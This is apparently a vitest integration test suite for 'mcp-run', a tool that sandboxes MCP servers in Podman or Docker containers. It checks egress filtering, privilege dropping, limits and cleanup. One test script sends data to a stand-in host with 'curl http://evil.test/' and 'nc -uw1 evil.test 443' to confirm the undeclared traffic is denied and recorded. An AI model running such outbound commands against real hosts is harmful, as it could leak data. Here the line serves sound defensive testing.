import { randomBytes } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { BASE_IMAGE } from '../../fixtures/engine/base-image.ts'
import type { Internet } from '../../fixtures/internet/model.ts'
import { history } from '../../fixtures/product/history.ts'
import { containersOf } from '../../fixtures/product/leftovers.ts'
import { product, USERS } from '../../fixtures/product/product.ts'
import { runOpen } from '../../fixtures/product/run-open.ts'
import { SANDBOX, startInternet } from '../../fixtures/product/sandbox.ts'
import { inside } from '../../fixtures/sandboxed/inside.ts'

// What differs between Podman and Docker, or could; all else the suites on Docker have.
const ROOTLESS = SANDBOX === 'podman-rootless'
const UNTIL_STDIN_ENDS = ['--', 'sh', '-c', 'echo up; cat']
const PROFILE = 'name: p\negress:\n  - host: api.test\n    port: 80\n'

let internet: Internet
beforeAll(async () => {
  internet = await startInternet()
}, 180_000)
afterAll(() => internet.close())

describe.each(USERS)('as %s', (user) => {
  const start = (words: readonly string[], profile = PROFILE) => {
    const mcp = product(internet, { user })
    return { mcp, run: runOpen(mcp, ['--profile', mcp.profile('p', profile), ...words], 90_000) }
  }
  const shell = async (script: string, args: readonly string[] = [], profile = PROFILE) => {
    const { mcp, run } = start([...args, '--', 'sh', '-c', script], profile)
    const { code, stdout, stderr } = await run.ended
    return { mcp, code, stdout: stdout.toString(), stderr: stderr.toString() }
  }

  it.each([
    ['in mcp-run', 'process'],
    ['in a container', 'container'],
  ])(
    'with the recorder %s: what is declared arrives, the rest is denied and recorded',
    async (_, recorder) => {
      await internet.resetCounts()
      const script = 'curl -sS http://api.test/; curl -sS http://evil.test/; echo x | nc -uw1 evil.test 443'
      const { mcp, stdout } = await shell(script, ['--recorder', recorder])
      expect(stdout).toMatch(/^hello\nmcp-run denied this request: undeclared\n/)
      expect(internet.webRequests().map(({ host }) => host)).toEqual(['api.test'])
      const { flows, drops, alerts } = history(mcp.store, 'p')
      expect(flows.map(({ name, action }) => `${name} ${action}`).sort()).toEqual([
        'api.test allowed',
        'evil.test denied',
      ])
      expect(drops).toMatchObject([{ name: 'evil.test', transport: 'udp', port: 443, packets: 1 }])
      expect(alerts.map(({ kind }) => kind)).toContain('undeclared_destination')
    },
  )

  it('counts every datagram that is dropped', async () => {
    const mcp = product(internet, { user })
    const profile = mcp.profile('p', PROFILE)
    const what = { destinations: 1000, each: 2, first: '60.0.0.0' }
    await inside(mcp, profile, 'datagrams', what, { timeoutMs: 90_000 })
    const { drops, gaps } = history(mcp.store, 'p')
    expect(drops.reduce((sum, { packets }) => sum + packets, 0)).toBe(2000)
    expect(gaps).toEqual([])
  })

  it('carries every byte both ways, and the end of stdin', async () => {
    const bytes = Buffer.from(randomBytes(3 * 1024 * 1024).toString('base64'))
    const { run } = start(['--', 'cat'])
    run.child.stdin?.end(bytes)
    const { code, stdout, stderr } = await run.ended
    expect(code, stderr.toString()).toBe(0)
    expect(stdout.equals(bytes)).toBe(true)
  })

  it("gives the server's exit code, its signal, and 3 where it is not there", async () => {
    const ends = await Promise.all([
      shell('exit 7'),
      shell('kill -KILL $$'),
      start(['--', 'nosuch']).run.ended,
    ])
    expect(ends.map(({ code }) => code)).toEqual([7, 137, 3])
    expect(ends[2].stderr.toString()).toContain('nosuch is not in its image')
  })

  it('runs it as nobody, with the filter of system calls and without a capability', async () => {
    const script = `id -u; cat /proc/self/uid_map; grep -E '^(Cap...|NoNewPrivs|Seccomp):' /proc/self/status
      unshare -U true || echo no namespace; touch /x || echo read-only; touch ~/x && stat -c %u ~/x`
    const { stdout } = await shell(script)
    const [uid, ...lines] = stdout.split('\n')
    // In a rootless engine the container's root is the plain user himself.
    expect(uid).toBe(ROOTLESS ? '0' : user === 'plain' ? '12345' : '64877')
    expect(lines[0]?.trim().split(/ +/)).toEqual(ROOTLESS ? ['0', '12345', '1'] : ['0', '0', '4294967295'])
    expect(stdout).toContain('NoNewPrivs:\t1\nSeccomp:\t2\n')
    expect(stdout.match(/^Cap\w+:\t0{16}$/gm)).toHaveLength(5)
    expect(stdout).toMatch(/no namespace\nread-only\n\d+\n$/)
  })

  it('keeps a limit, or says that it does not', async () => {
    const script = 'for n in $(seq 60); do sleep 1 & done; wait'
    const { stderr } = await shell(script, [], `${PROFILE}limits: { pids: 40, memory: 200MiB }\n`)
    const said = 'limit is not enforced: the container engine has no control group for it'
    expect(/\[p\] .*fork/i.test(stderr)).toBe(!stderr.includes(`the pids ${said}`))
    expect(stderr.includes(`the memory ${said}`)).toBe(stderr.includes(`the pids ${said}`))
  })

  it('runs an image as podman run does, with a volume that stays', async () => {
    const script = 'echo kept >> /data/file; cat /data/file'
    const words = [
      '--',
      'podman',
      'run',
      '-i',
      '--rm',
      '-v',
      `kept-${user}:/data`,
      BASE_IMAGE,
      'sh',
      '-c',
      script,
    ]
    expect((await start(words).run.ended).stdout.toString()).toBe('kept\n')
    expect((await start(words).run.ended).stdout.toString()).toBe('kept\nkept\n')
  })

  it('leaves nothing running when mcp-run is killed, and what stands still goes with the next start', async () => {
    const { mcp, run } = start(UNTIL_STDIN_ENDS)
    await run.says('up')
    const pid = run.child.pid ?? 0
    expect(await containersOf(mcp, pid)).toHaveLength(2)
    run.child.kill('SIGKILL')
    await run.ended
    await eventually(async () => (await containersOf(mcp, pid)).length === 0)
    const next = start(UNTIL_STDIN_ENDS)
    await next.run.says('up')
    await eventually(async () => (await next.mcp.engine?.containers(true))?.length === 2)
    next.run.child.stdin?.end()
    await next.run.ended
    await eventually(async () => (await next.mcp.engine?.containers(true))?.length === 0)
  })
})

async function eventually(holds: () => Promise<boolean>): Promise<void> {
  const until = Date.now() + 10_000
  while (!(await holds())) {
    if (Date.now() > until) throw new Error('it did not come about in 10 s')
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
}
